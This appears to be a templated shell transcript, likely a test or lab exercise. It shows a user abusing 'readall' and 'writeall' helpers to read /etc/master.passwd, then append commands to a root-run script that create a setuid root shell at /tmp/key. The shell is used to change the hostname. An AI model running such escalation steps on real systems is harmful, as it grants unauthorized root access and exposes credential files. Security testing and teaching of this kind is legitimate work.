  $ su {user} -c 'cat /etc/master.passwd'
  cat: /etc/master.passwd: Permission denied
  [1]
  $ su {user} -c '/usr/local/bin/readall /etc/master.passwd' | head -1
  root::0:0::0:0:Charlie &:/root:/bin/sh
  $ su {user} -c 'echo "cp /bin/sh /tmp/key; chmod 4755 /tmp/key" | /usr/local/bin/writeall -a /usr/local/sbin/{script}'
  cp /bin/sh /tmp/key; chmod 4755 /tmp/key
  $ /usr/local/sbin/{script}
  $ ls -l /tmp/key
  -rwsr-xr-x  1 root wheel 170000 Mar  1 12:00 /tmp/key
  $ su {user} -c "/tmp/key -c id"
  uid=1002({user}) gid=1002({user}) euid=0(root) groups=1002({user}),900(backup)
  $ su {user} -c "/tmp/key -c 'hostname taken'"
  $ hostname
  taken
